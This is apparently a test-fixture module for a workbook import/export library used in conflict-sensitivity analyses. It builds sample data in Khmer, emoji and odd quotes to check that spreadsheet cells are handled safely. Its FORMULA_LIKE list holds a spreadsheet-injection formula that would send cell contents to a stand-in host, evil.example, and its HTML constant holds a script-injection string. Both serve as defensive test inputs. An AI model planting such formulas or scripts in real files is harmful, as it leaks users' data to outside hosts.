"""Builders shared by the tests of dnh_graph.io: a rich analysis, and hand-made files to break."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from pathlib import Path

from dnh_graph.io import write_workbook
from dnh_graph.model import (
    Actor,
    ActorReading,
    Analysis,
    AnalysisInfo,
    Detail,
    Factor,
    FactorActor,
    FactorReading,
    Impact,
    Monitoring,
    Option,
    OptionImpact,
    Relationship,
    Review,
)

KHMER = "ក្រុមប្រឹក្សាឃុំ និងសហគមន៍នេសាទ"  # commune council and fishing community
EMOJI = "🐟 👩‍👩‍👧 🇰🇭 ✊🏽"
HTML = "<script>alert('x')</script><b>&amp; &lt;</b>"
QUOTES = "\"double\" 'single' “curly” ‘curly’ « guillemets »"
LONG = ("ការនេសាទ fishing 🐟 " * 300)[:5000]
# Every way a cell could be taken for a formula, plus the characters a workbook cannot hold.
FORMULA_LIKE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "'apostrophe first",
    "''two apostrophes",
    "#N/A",
    "_x000D_ literal escape",
    "control \x01\x1f\x0b\x0c\ufffe\uffff\r\n end",  # no NUL: refused on every path (test_nul.py)
]


def small_analysis(key: str = "demo") -> Analysis:
    return Analysis(
        AnalysisInfo(key, "Demo"),
        actors=[Actor("A1", "Council", "local_authority"), Actor("A2", "Fishers", "community_group")],
        factors=[Factor("D1", "divider", "Land", "experiences"),
                 Factor("C1", "connector", "Market", "experiences")],
    )


def rich_analysis(key: str = "tonle") -> Analysis:
    """Every table, every column, with Khmer, emoji, HTML, quotes, 5,000 characters and formula-like text."""
    actors = [
        Actor("A1", KHMER, "local_authority", "supports", 4, LONG, False, ("ឃុំ", "officials")),
        Actor("A2", EMOJI, "community_group", "neutral", 2, HTML, True, ("fishers", "=tag", "'quoted")),
        Actor("=A3", "=HYPERLINK(\"x\")", "armed_group", "opposes", 5, QUOTES, True, ()),
        Actor("'A4", "-minus", "other", "unknown", 1, "", False, ("-dash",)),
    ]
    actors += [Actor(f"X{i}", text, "individual", "unknown", 3, text) for i, text in enumerate(FORMULA_LIKE)]
    factors = [
        Factor("D1", "divider", "Access to fishing lots ដីនេសាទ", "systems_institutions", 5, LONG, ("land",)),
        Factor("D2", "divider", "+rumours", "attitudes_actions", 3, HTML),
        Factor("C1", "connector", "Pagoda festival 🎉", "symbols_occasions", 4, QUOTES, ("culture", "ឆ្នាំថ្មី")),
        Factor("@C2", "connector", "@shared market", "experiences", 1),
    ]
    details = [
        Detail("W1", "what", "Fish ponds", "Ponds for 40 households " + KHMER, True),
        Detail("B1", "by_whom", "Staff", "=staff hired from one village", False),
        Detail("H1", "how", "", "", True),
    ]
    reviews = [
        Review("R1", dt.date(1899, 12, 31), "Before Excel's calendar", "\rold"),
        Review("R2", dt.date(1900, 3, 1), "First Excel date", ""),
        Review("R3", dt.date(2025, 2, 28), KHMER, LONG),
    ]
    return Analysis(
        AnalysisInfo(key, "Tonle Sap fisheries ទន្លេសាប", "Kampong Chhnang 🇰🇭", LONG,
                     "=1+1 conflict over lots; " + HTML, dt.date(2024, 2, 29)),
        actors=actors,
        relationships=[
            Relationship("A1", "A2", "conflict", 3, True, "-tense " + EMOJI),
            Relationship("A2", "A1", "weak", 1, False, ""),
            Relationship("=A3", "'A4", "influence", 2, True, QUOTES),
        ],
        factors=factors,
        factor_actors=[
            FactorActor("D1", "A1", "drives"),
            FactorActor("D1", "A1", "embodies"),
            FactorActor("@C2", "=A3", "bridges"),
        ],
        details=details,
        impacts=[
            Impact("W1", "D1", "strengthens", 3, "resource_transfer", "distribution", "high", LONG,
                   dt.date(2024, 5, 1)),
            Impact("B1", "C1", "weakens", 1, "implicit_ethical_message", "", "low", "+evidence", None),
            Impact("W1", "D1", "strengthens", 2, "staff_behaviour", "", "medium", "", dt.date(1066, 10, 14)),
        ],
        options=[
            Option("O1", "Rotate ponds ការបង្វិល", "W1", HTML, 4, 2, "chosen", "-fewer fish"),
            Option("=O2", "Add a joint committee", "", "", 3, 5, "idea", ""),
        ],
        option_impacts=[
            OptionImpact("O1", "D1", "weakens", 2, "resource_transfer", "market", "high", QUOTES),
            OptionImpact("=O2", "@C2", "strengthens", 3, "organisational_action", "publicity"),
        ],
        reviews=reviews,
        factor_readings=[
            FactorReading("R1", "D1", 0, ""),
            FactorReading("R2", "D1", 5, "=peak"),
            FactorReading("R3", "C1", 3, EMOJI),
        ],
        actor_readings=[ActorReading("R2", "A1", 5, "supports"), ActorReading("R3", "=A3", 1, "opposes")],
        monitoring=[
            Monitoring("R2", "conflict_sensitive", "low", LONG, "@ask the council"),
            Monitoring("R2", "aware_market", "high"),
        ],
    )


def workbook_bytes(analysis: Analysis) -> bytes:
    buffer = io.BytesIO()
    write_workbook(analysis, buffer)
    return buffer.getvalue()


def zip_parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def sheet_part(data: bytes, table: str) -> str:
    """The zip part name of a sheet of a workbook written by write_workbook."""
    from dnh_graph.model import TABLES

    return f"xl/worksheets/sheet{list(TABLES).index(table) + 1}.xml"


def rezip(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def make_workbook(sheets: dict[str, list[list]]) -> bytes:
    """A workbook made by hand, as a person would in Excel: cells exactly as given (no neutralising)."""
    import openpyxl

    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for title, rows in sheets.items():
        ws = wb.create_sheet(title)
        for row in rows:
            ws.append(row)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def minimal_sheets() -> dict[str, list[list]]:
    """The three required sheets, valid, as lists of rows (header first)."""
    return {
        "analysis": [["key", "name"], ["demo", "Demo"]],
        "actors": [["key", "name", "type"], ["A1", "Council", "local_authority"], ["A2", "Fishers", "other"]],
        "factors": [["key", "kind", "name", "category"], ["D1", "divider", "Land", "experiences"]],
    }


def write_csvs(folder: Path, sheets: dict[str, list[list]]) -> Path:
    import csv

    folder.mkdir(parents=True, exist_ok=True)
    for table, rows in sheets.items():
        with (folder / f"{table}.csv").open("w", encoding="utf-8", newline="") as f:
            csv.writer(f).writerows(rows)
    return folder
